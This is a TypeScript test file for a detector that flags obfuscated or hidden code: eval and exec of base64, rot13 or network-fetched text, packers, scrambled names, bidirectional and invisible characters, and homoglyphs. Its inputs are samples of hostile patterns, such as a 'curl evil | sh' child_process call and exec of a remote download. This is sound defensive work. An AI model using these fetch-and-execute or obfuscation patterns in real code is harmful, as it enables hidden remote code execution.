import { describe, expect, it } from 'vitest';
import { suspicionsIn } from './suspicions.ts';
import type { SuspicionKind } from './suspicion.ts';

const kindsIn = (source: string, runtime: 'node' | 'python' = 'node'): SuspicionKind[] =>
  [...new Set(suspicionsIn(source, runtime, false).map(({ kind }) => kind))].sort();
const escaped = (text: string): string => Array.from(text, (char) => String.raw`\x${char.codePointAt(0)!.toString(16)}`).join('');

describe('suspicions', () => {
  it.each([
    ['eval of base64', "eval(atob('YWxlcnQoMSk='));"],
    ['eval by another way', "(0, eval)(Buffer.from(text, 'base64').toString());"],
    ['eval by a name in escapes', String.raw`globalThis["\x65\x76\x61\x6c"](atob(text));`],
    ['eval of a variable that was decoded', "const a = Buffer.from(t, 'hex');\nconst b = a.toString();\neval(b);"],
    ['eval of what a function decodes', "function d(s) { return atob(s); }\neval(d('x'));"],
    ['a function of decoded text', "new Function('require', unescape('%61'))(require);"],
    ['a function by its constructor', '(() => {}).constructor(String.fromCharCode(97, 98))();'],
    ['a module by a decoded name', "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());"],
    ['an import by a decoded name', "await import(atob('Y2hpbGRfcHJvY2Vzcw=='));"],
    ['what comes from the network', 'eval(await (await fetch(url)).text());'],
    ['eval under another name', "const run = eval;\nrun(atob('x'));"],
    ['a name that is decoded', "globalThis[atob('ZXZhbA==')](text);"],
    ['a packer', "eval(function (p, a, c, k, e, d) { return p; }('0 1', 2, 2, 'a|b'.split('|'), 0, {}));"],
  ])('are raised by %s', (_, source) => expect(kindsIn(source)).toEqual(['decoded-code']));

  it.each([
    ['exec of base64', "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))"],
    ['exec of bytecode', 'import marshal, zlib\nexec(marshal.loads(zlib.decompress(DATA)))'],
    ['exec through a lambda', "_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s[::-1]));exec((_)(b'x'))"],
    ['exec of rot13', "import codecs\nsource = codecs.decode(text, 'rot13')\nexec(compile(source, 'x', 'exec'))"],
    ['exec of the network', 'import requests\nexec(requests.get(url).text)'],
    ['exec of what was decrypted', 'from cryptography.fernet import Fernet\nexec(Fernet(key).decrypt(data))'],
    ['eval of numbers', 'eval(bytes([112, 114, 105, 110, 116]).decode())'],
    ['eval of characters', "eval(''.join(chr(n) for n in numbers))"],
    ['an import by a decoded name', "__import__(base64.b64decode('b3M=').decode()).system('ls')"],
  ])('are raised in Python by %s', (_, source) => expect(kindsIn(source, 'python')).toEqual(['decoded-code']));

  it('are less where code is made of what is not seen, or is bytecode', () => {
    expect(kindsIn('exports.handler = (text) => eval(text);')).toEqual(['made-code']);
    expect(kindsIn('exec(text)', 'python')).toEqual(['made-code']);
    expect(kindsIn('import marshal\ncode = marshal.loads(data)', 'python')).toEqual(['bytecode']);
  });

  it('are raised by text that was scrambled', () => {
    const names = ['a1b2', 'c3d4', 'e5f6', '1234', '5678'].map((name) => `var _0x${name} = 1;`);
    expect(kindsIn(names.join('\n'))).toEqual(['scrambled-names']);
    expect(kindsIn(`const a = "${escaped('require("child_process").exec("curl evil | sh"); // and so on')}";`)).toEqual(['escaped-text']);
    expect(
      kindsIn(`f(${Array.from('the quick brown fox jumps over the lazy dog and runs to the moon', (c) => `"${escaped(c)}"`).join()})`),
    ).toEqual(['escaped-text']);
    expect(kindsIn(`const data = '${'aGVsbG8'.repeat(400)}';`)).toEqual(['embedded-data']);
    expect(kindsIn(`f();${'g();'.repeat(2000)}`)).toEqual(['long-line']);
  });

  it('are raised by characters that are not seen', () => {
    expect(kindsIn("if (level !== 'user\u202e \u2066// only for admins\u2069 \u2066') {}")).toEqual(['turned-text']);
    expect(kindsIn(`const text = '${'\ufe01\u{e0110}'.repeat(20)}';`)).toEqual(['unseen-text']);
    expect(kindsIn('const { timeout,\u3164 } = query;')).toEqual(['unseen-in-name']);
    expect(kindsIn('const p\u0430ssword = 1;')).toEqual(['mixed-letters']);
    expect(suspicionsIn('// one\nconst p\u0430y = 1;', 'node', false)).toEqual([
      {
        kind: 'mixed-letters',
        subject: 'p\u0430y',
        range: { start: { line: 1, character: 6 }, end: { line: 1, character: 9 } },
      },
    ]);
  });

  it('are not raised by honest code', () => {
    for (const source of [
      "const text = Buffer.from(body, 'base64').toString('utf8'); JSON.parse(text);",
      "const evaluate = (a) => a; evaluate(atob('x'));",
      'const run = redis.eval; run(script); handlers[decodeURIComponent(name)](event); const f = Function.prototype;',
      'redis.eval(script, 1, key); page.evaluate(() => 1); model.compile(x);',
      "require('./a'); require(path.join(__dirname, name)); await import(`./rules/${name}.js`);",
      "const flag = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'; const family = '👨‍👩‍👧‍👦';",
      'const имя = 1; const größe = 2; const Δx = 3; const µs = 4; const 変数_name = 5;',
      String.raw`const esc = '\x1b[31m'; const bom = '\ufeff'; const quote = "\u0022"; const pattern = /[\u0041-\u005a\x61-\x7a]/;`,
      "// \u0416\u0443\u0440\u043d\u0430\u043b log\nconst a = 'смешанный text';",
      '//# sourceMappingURL=data:application/json;base64,' + 'A'.repeat(9000),
      'eval("1 + 1")',
    ])
      expect([source.slice(0, 40), kindsIn(source)]).toEqual([source.slice(0, 40), []]);
    for (const source of [
      'import re, base64\npattern = re.compile(text)\ndata = base64.b64decode(x)\nvalues = json.loads(y)',
      'def handler(event):\n    return model.eval()\n',
      'mod = __import__("json")\nraw = bytes(10)',
    ])
      expect([source, kindsIn(source, 'python')]).toEqual([source, []]);
  });

  it('take no time for large texts, and say no more than ten of a kind', () => {
    const started = performance.now();
    expect(suspicionsIn('eval(x);\n'.repeat(40_000), 'node', false)).toHaveLength(10);
    expect(kindsIn('('.repeat(5_000))).toEqual([]);
    suspicionsIn(`eval(${'f('.repeat(3_000)}`, 'node', false);
    suspicionsIn(`const a = ${'b + '.repeat(50_000)}1;`, 'node', false);
    expect(performance.now() - started).toBeLessThan(15_000);
  });
});
